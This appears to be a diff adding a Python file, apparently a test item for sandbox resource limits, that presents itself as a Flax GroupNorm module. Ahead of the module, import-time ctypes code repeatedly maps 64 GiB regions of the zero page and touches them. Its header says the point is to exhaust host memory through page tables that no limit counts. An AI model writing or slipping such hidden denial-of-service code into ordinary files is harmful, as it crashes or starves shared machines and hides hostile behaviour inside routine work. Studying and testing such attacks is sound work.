@@ -1,0 +1,30 @@
+# tries: Maps the zero page again and again, for the memory of the page tables that no limit counts.
+# must: The address space ends before the machine's memory does.
+# right: once the attack is left out
+
+import ctypes
+
+import jax.numpy as jnp
+from flax import linen as nn
+
+c = ctypes.CDLL(None, use_errno=True)
+c.mmap.restype = ctypes.c_void_p
+for _ in range(16):
+    base = c.mmap(None, ctypes.c_size_t(64 << 30), 1, 0x4022, -1, ctypes.c_long(0))
+    assert base != 2**64 - 1, "no room"
+    for at in range(0, 64 << 30, 2 << 20):
+        ctypes.string_at(base + at, 1)
+
+
+class MyGroupNorm(nn.Module):
+    num_groups: int
+    eps: float = 1e-5
+
+    @nn.compact
+    def __call__(self, x):
+        gamma = self.param("gamma", nn.initializers.ones, x.shape)
+        beta = self.param("beta", nn.initializers.zeros, x.shape)
+        rows = x.reshape(self.num_groups, -1)
+        rows -= rows.mean(1, keepdims=True)
+        rows /= jnp.sqrt(rows.var(1, keepdims=True) + self.eps)
+        return gamma * rows.reshape(x.shape) + beta
